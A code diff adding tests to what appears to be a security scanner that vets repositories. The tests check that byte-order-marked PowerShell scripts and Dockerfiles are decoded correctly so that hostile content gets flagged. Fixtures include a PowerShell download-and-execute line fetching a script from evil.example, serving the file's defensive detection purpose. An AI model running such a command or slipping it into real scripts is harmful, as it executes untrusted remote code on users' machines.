@@ -10,12 +10,15 @@ from pathlib import Path
 
 import pytest
 
+from app.core.blobs import BytesBlob
 from app.core.findings import Finding, Severity
 from app.core.limits import Limits
 from app.core.manifest import ManifestFile
 from app.core.pipeline import vet
+from app.core.ports import SourceError
 from app.core.report import Report
 from app.core.scanners.links_scanner import LinksScanner
+from app.core.scanners.text_lines import read_text, read_whole
 from app.core.scanners.upstreams import load_upstreams
 from app.sources.local import LocalSource
 
@@ -220,6 +223,41 @@ def test_dockerfile_images(tmp_path: Path) -> None:
     (image,) = _vet(tmp_path, {"Dockerfile": dockerfile}).findings
     assert image.rule == "untrusted-container-image"
     assert image.evidence == "Dockerfile:5: FROM --platform=linux/amd64 ghcr.io/someone/vllm-patched:dsv4"
+
+
+@pytest.mark.parametrize(
+    ("name", "raw", "rule"),
+    [  # PowerShell runs UTF-16 scripts with a byte-order mark; Docker skips a UTF-8 one
+        ("install.ps1", b"\xff\xfe" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-le"),
+         "download-and-execute"),
+        ("install.ps1", b"\xfe\xff" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-be"),
+         "download-and-execute"),
+        ("Dockerfile", "\ufeffFROM ghcr.io/someone/vllm-patched:dsv4\n".encode(), "untrusted-container-image"),
+    ],
+    ids=["utf-16-le-script", "utf-16-be-script", "utf-8-bom-dockerfile"],
+)
+def test_text_behind_a_byte_order_mark_is_read_as_its_reader_would(
+    tmp_path: Path, name: str, raw: bytes, rule: str
+) -> None:
+    # Decoded as UTF-8 these were noise (or hid the FROM): no finding at all, and "approve".
+    (tmp_path / name).write_bytes(raw)
+    report = vet(LocalSource(tmp_path), [LinksScanner()], workers=1)
+    assert rule in {f.rule for f in report.findings}
+
+
+class _ShortBlob(BytesBlob):
+    """Promises more bytes than it returns, like a source whose file shrank."""
+
+    @property
+    def size(self) -> int:
+        return 100
+
+
+def test_a_short_read_is_an_error_not_a_shorter_text() -> None:
+    with pytest.raises(SourceError, match="read 10 of the first 100 bytes"):
+        read_text(_ShortBlob(b"x" * 10), 1000)
+    with pytest.raises(SourceError):
+        read_whole(_ShortBlob(b"x" * 10), 1000)
 
 
 def test_oversized_card_is_checked_on_its_start_and_reported(tmp_path: Path) -> None:
